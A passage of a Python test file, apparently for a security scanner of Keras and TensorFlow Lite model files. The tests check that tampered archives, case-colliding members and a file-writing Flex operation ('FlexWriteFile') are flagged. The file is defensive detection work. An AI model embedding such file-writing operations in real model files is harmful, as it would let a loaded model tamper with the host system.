    path = archive(tmp_path / "m.keras", config__json={})
    assert scan(path) == Scanned()
    path.write_bytes(change(path.read_bytes()))
    result = scan(path)
    assert told in " ".join([*(finding.message for finding in result.findings), *result.errors])


def test_members_that_differ_in_case_alone_are_told(tmp_path: Path) -> None:
    path = archive(tmp_path / "m.keras", config__json={}, Config__json={})
    assert rules(scan(path)) == {"GM017"}


@pytest.mark.parametrize(
    ("operation", "found"),
    [(b"FlexWriteFile", {"GM016"}), (b"FlexMatMul", set()), (b"Evil", {"GM018"}), (b"FlexEvil", {"GM018"})],
)
def test_operations_of_tensorflow_lite_are_read(operation: bytes, found: set[str], tmp_path: Path) -> None:
    from tests.hostile import making

    (tmp_path / "m.tflite").write_bytes(making.tflite(operation))
    result = scan(tmp_path / "m.tflite")
    assert (rules(result), bool(result.errors)) == (found, "GM018" in found)
    (tmp_path / "m.tflite").write_bytes(making.tflite(operation)[:30])
    assert "TensorFlow Lite" in scan(tmp_path / "m.tflite").errors[0]
